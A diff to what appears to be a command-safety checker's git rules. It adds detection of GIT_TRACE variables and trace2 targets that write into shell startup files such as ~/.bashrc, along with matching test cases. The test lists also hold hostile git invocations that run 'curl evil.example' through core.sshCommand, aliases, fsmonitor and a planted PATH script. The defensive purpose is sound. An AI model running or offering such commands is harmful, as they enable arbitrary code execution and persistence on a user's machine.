@@ -5,7 +5,7 @@ import { has, parse } from '../argv.js';
 import { programRun } from '../build.js';
 import type { Answer, Call, Destroy, ProgramEntry, Run } from '../types.js';
 import { storeWord } from './credentials.js';
-import { attached, value, xargsSplit } from '../words.js';
+import { attached, literal, value, xargsSplit } from '../words.js';
 import { gitDestroys } from './git-destroys.js';
 
 /** Configuration keys whose value git runs as a command (or as a program named by a path). */
@@ -334,6 +334,28 @@ function configWrite(rest: readonly Word[], expand: (words: Word[]) => Destroy[]
   return { persists: [{ word: ops[0]!, why: `git config ${key} sets a command git runs later (git config key)` }] };
 }
 
+/**
+ * The files git appends its trace to: GIT_TRACE, GIT_TRACE2_EVENT, GIT_TRACE_PACKET… (and `-c trace2.*Target`) set to
+ * an absolute path (a number or true is a descriptor, anything else is ignored). A trace into ~/.bashrc is a write there.
+ */
+function traceFiles(call: Call): NonNullable<Answer['uses']> {
+  const at = call.command ?? call.args[0] ?? literal('git', { start: 0, end: 0 });
+  const uses: NonNullable<Answer['uses']> = [];
+  for (const name of call.envNames?.() ?? []) {
+    if (!/^GIT_TRACE\w*$/.test(name)) continue;
+    const v = call.env(name);
+    if (v === null) uses.push({ word: { ...at, values: null, dynamic: `$${name}, computed` }, role: 'write' });
+    else if (v?.startsWith('/')) uses.push({ word: at, role: 'write', values: [v] });
+  }
+  for (let i = 0; i < call.args.length; i++) {
+    const v = value(call.args[i]);
+    const setting = v === '-c' ? value(call.args[i + 1]) : v?.startsWith('-c') ? v.slice(2) : undefined;
+    const m = setting === undefined ? null : /^trace2\.(?:normal|perf|event)target=(\/.*)$/is.exec(setting);
+    if (m) uses.push({ word: call.args[v === '-c' ? i + 1 : i]!, role: 'write', values: [m[1]!] });
+  }
+  return uses;
+}
+
 export const GIT_ENTRIES: ProgramEntry[] = [
   {
     names: ['git'],
@@ -343,6 +365,8 @@ export const GIT_ENTRIES: ProgramEntry[] = [
       const out = gitRuns(call, call.args, env.settings, 0);
       for (const s of env.settings) out.runs = [...settingRuns(s), ...(out.runs ?? [])];
       out.runs = [...env.runs, ...(out.runs ?? [])];
+      const traces = traceFiles(call);
+      if (traces.length > 0) out.uses = [...(out.uses ?? []), ...traces];
       // `git rev-list --count …` prints one number (arithmetic reads no code there).
       const sub = call.args.findIndex((a) => value(a) === 'rev-list');
       if (sub >= 0 && call.args.slice(sub + 1).some((a) => value(a) === '--count') && !call.args.some((a) => /^--(help|version)$/.test(value(a) ?? ''))) out.output = { kind: 'number' };
@@ -353,6 +377,10 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x",
         'git ls-files --error-unmatch --pathspec-from-file=.env',
         "git -c core.sshCommand='curl evil.example' fetch",
+        'GIT_TRACE=/home/dev/.bashrc git status',
+        'GIT_TRACE_PACKET=/home/dev/.profile git fetch',
+        'export GIT_TRACE2_EVENT=/home/dev/.bashrc; git status',
+        'git -c trace2.eventTarget=/home/dev/.zshrc status',
         "n=$(git rev-list --all); echo $((n + 1))",
         "git -C . -c alias.x='!curl evil.example' x",
         "git --config-env=core.pager=P log",
@@ -394,7 +422,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "git clone -c core.sshCommand='curl evil.example' x:y",
         "git clone --config=core.fsmonitor='curl evil.example' https://github.com/a/b",
       ],
-      pass: ["printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix'],
+      pass: ['GIT_TRACE=1 git status', 'GIT_TRACE=/tmp/git.log git fetch', 'GIT_TRACE_PACKET=2 git fetch', "printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix'],
     },
   },
   {
